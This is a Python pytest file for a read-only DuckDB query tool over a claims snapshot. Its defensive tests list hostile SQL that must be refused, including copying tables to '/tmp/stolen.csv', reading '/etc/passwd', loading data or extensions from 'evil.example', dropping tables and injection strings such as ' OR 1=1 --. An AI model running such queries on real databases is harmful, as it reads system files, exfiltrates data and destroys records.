"""Questions to the snapshot: they read, and do nothing else."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from claims.cli.main import cli
from claims.errors import ClaimsError
from claims.store.publish import publish
from claims.store.query import ask, connect, named_queries, one_line, stream
from claims.store.store import Store
from claims.store.verdicts import decide, verdicts_file
from tests.store.build import batch

NOW = datetime(2026, 3, 1, 3, tzinfo=UTC)


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("data")
    with Store(folder) as store:
        store.load(batch("Two people were killed in Aden."), seen_at=NOW)
        publish(store)
    return folder


@pytest.fixture
def con(data: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    with connect(data) as open_con:
        yield open_con


@pytest.mark.parametrize("name", [named.name for named in named_queries()])
def test_named_query_runs(con: duckdb.DuckDBPyConnection, name: str) -> None:
    assert ask(con, name).columns
    ask(con, name).fetchall()


def test_named_queries_say_what_they_answer() -> None:
    assert len(named_queries()) >= 10
    for named in named_queries():
        assert len(named.about) > 20, named.name


@pytest.mark.parametrize(
    "query",
    [
        "COPY (SELECT 1) TO '/tmp/stolen.csv'",
        "COPY claims TO '/tmp/stolen.csv'",
        "ATTACH '/tmp/other.duckdb'",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM glob('/*')",
        "INSTALL httpfs",
        "LOAD httpfs",
        "PRAGMA database_size",
        "SET enable_external_access = true",
        "RESET lock_configuration",
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP TABLE store.claims",
        "DELETE FROM store.claims",
        "UPDATE store.claims SET quote = ''",
        "INSERT INTO store.meta VALUES ('a', 'b')",
        "CREATE TABLE t AS SELECT 1",
        "CREATE TEMP TABLE t AS SELECT 1",
        "DROP VIEW claims",
        "EXPORT DATABASE '/tmp/all'",
        "CHECKPOINT",
        "CALL pragma_version()",
        "EXPLAIN ANALYZE COPY (SELECT 1) TO '/tmp/stolen.csv'",
        "EXPLAIN ANALYZE FROM read_text('/etc/passwd')",
        "FROM query('COPY (SELECT 1) TO ''/tmp/stolen.csv''')",
        "FROM query('FROM read_text(''/etc/passwd'')')",
        "FROM read_csv_auto('/etc/passwd')",
        "FROM read_json('/etc/passwd')",
        "FROM read_parquet('/etc/passwd')",
        "FROM parquet_metadata('/etc/passwd')",
        "FROM read_blob('/etc/passwd')",
        "FROM sniff_csv('/etc/passwd')",
        "FROM read_csv('https://evil.example/x.csv')",
        "FROM read_duckdb('/tmp/other.duckdb')",
        "FROM sqlite_scan('/tmp/x.db', 't')",
        "FROM 'https://evil.example/x.parquet'",
        "SELECT getenv('HOME')",
        "PRAGMA enable_external_access = true",
        "SET SESSION enable_external_access = true",
        "SET GLOBAL allow_unsigned_extensions = true",
        "SET VARIABLE a = 1",
        "FORCE INSTALL spatial FROM 'https://evil.example'",
        "CREATE SECRET s (TYPE s3)",
        "CREATE OR REPLACE TEMP VIEW findings AS SELECT 1",
        "CREATE MACRO m() AS 1",
        "ALTER TABLE store.claims RENAME TO c",
        "TRUNCATE store.claims",
        "MERGE INTO store.meta USING store.meta s ON true WHEN MATCHED THEN DELETE",
        "VACUUM",
        "USE memory",
        "DETACH claims",
        "BEGIN",
        "PREPARE p AS SELECT 1",
        "IMPORT DATABASE '/tmp/all'",
        "WITH x AS (DELETE FROM store.meta RETURNING *) FROM x",
        "SELECT * FROM claims; COPY claims TO '/tmp/stolen.csv'",
        "/* */ COPY claims TO '/tmp/stolen.csv'",
        "SELECT * FROM known",
        "SELECT nothing FROM claims",
        "SELEC 1",
        "no-such-name",
        "",
        ";",
    ],
)
def test_refused_with_one_line(con: duckdb.DuckDBPyConnection, query: str) -> None:
    with pytest.raises(ClaimsError) as caught:
        answered(con, query)
    assert 5 < len(str(caught.value)) < 700
    assert "\n" not in str(caught.value)
    assert not Path("/tmp/stolen.csv").exists()


def answered(con: duckdb.DuckDBPyConnection, query: str) -> None:
    try:
        ask(con, query).fetchall()
    except duckdb.Error as error:  # found only while it answers: the command line tells it in one line too
        raise ClaimsError(one_line(error)) from None


def test_reading_in_every_way_is_allowed(con: duckdb.DuckDBPyConnection) -> None:
    assert ask(con, "SELECT count(*) FROM articles").fetchall() == [(1,)]
    assert ask(con, "WITH c AS (SELECT * FROM claims) SELECT count(*) > 0 FROM c;").fetchall() == [(True,)]
    assert ask(con, "FROM clusters").columns


def test_a_decision_is_seen_at_once(data: Path) -> None:
    with connect(data) as con:
        assert ask(con, "SELECT * FROM verdicts").fetchall() == []
        assert con.execute("SELECT status FROM findings").fetchall() == []
    try:
        decide(data, "f1", "confirmed", "seen", labels=("desk",), by="Nour")
        decide(data, "f1", "dismissed", by="Sami")
        with connect(data) as con:
            rows = ask(con, "SELECT decided_by, status, labels, holds FROM verdicts ORDER BY line").fetchall()
            assert ask(con, "SELECT * FROM findings").columns == con.sql("FROM claims.main.findings").columns
    finally:
        verdicts_file(data).unlink()
    assert rows == [("Nour", "confirmed", ["desk"], False), ("Sami", "dismissed", [], True)]


def test_many_may_ask_at_once(data: Path) -> None:
    """Connections of one process share an instance, and with it the settings that are locked."""
    with connect(data) as one, connect(data) as two:
        decided = [
            con.execute("SELECT current_setting('TimeZone'), count(*) FROM findings").fetchall() for con in (one, two)
        ]
        assert decided == [[("UTC", 0)]] * 2
        for con in (one, two):
            with pytest.raises(duckdb.Error, match="disabled by configuration"):
                con.execute("FROM read_text('/etc/passwd')")
            with pytest.raises(duckdb.Error, match="locked"):
                con.execute("SET enable_external_access = true")


def test_nothing_published_yet(tmp_path: Path) -> None:
    with pytest.raises(ClaimsError, match="no database yet"):
        connect(tmp_path)


@pytest.mark.parametrize(("form", "start"), [("csv", "outlet,"), ("json", "["), ("table", "outlet ")])
def test_formats(data: Path, form: str, start: str) -> None:
    done = CliRunner().invoke(cli, ["sql", "SELECT outlet, url FROM articles", "--format", form, "--data", str(data)])
    assert done.exit_code == 0, done.output
    assert done.output.lstrip("\n").startswith(start)
    assert "The Post" in done.output


def test_parquet_goes_to_a_file(data: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.parquet"
    words = ["sql", "SELECT outlet FROM articles", "--format", "parquet", "--data", str(data)]
    assert CliRunner().invoke(cli, words).exit_code == 2
    assert CliRunner().invoke(cli, [*words, "-o", str(file)]).exit_code == 0
    assert duckdb.read_parquet(str(file)).fetchall() == [("The Post",)]


@pytest.mark.parametrize(
    "view", ["articles", "claims", "clusters", "findings", "evidence", "runs", "sources", "verdicts"]
)
def test_the_docs_explain_every_column(con: duckdb.DuckDBPyConnection, view: str) -> None:
    page = (Path(__file__).parents[2] / "docs" / "schema.md").read_text(encoding="utf-8")
    section = page.partition(f"## `{view}`")[2].partition("\n## ")[0]
    named = set(re.findall(r"`(\w+)`", "".join(re.findall(r"^\| (`.*?) \|", section, re.M))))
    assert set(ask(con, f"FROM {view}").columns) == named


def test_the_docs_list_every_named_query() -> None:
    page = (Path(__file__).parents[2] / "docs" / "queries.md").read_text(encoding="utf-8")
    for named in named_queries():
        takes = ", ".join(f"`{name}`" for name in named.parameters)
        assert f"| `{named.name}` | {named.about} | {takes} |" in page


def test_parameters_narrow_and_are_only_values(con: duckdb.DuckDBPyConnection) -> None:
    assert ask(con, "place", {"place": "aden"}).fetchall()
    assert not ask(con, "place", {"place": "' OR 1=1 --"}).fetchall()
    assert stream(con, "SELECT $a || 'b'", {"a": "'; DROP TABLE store.claims; --"}).fetchall() == [
        ("'; DROP TABLE store.claims; --b",)
    ]
    with pytest.raises(ClaimsError, match="no parameter 'city'; it takes place"):
        ask(con, "place", {"city": "Aden"})
    with pytest.raises(ClaimsError):
        ask(con, "SELECT $a")  # nothing stands for it
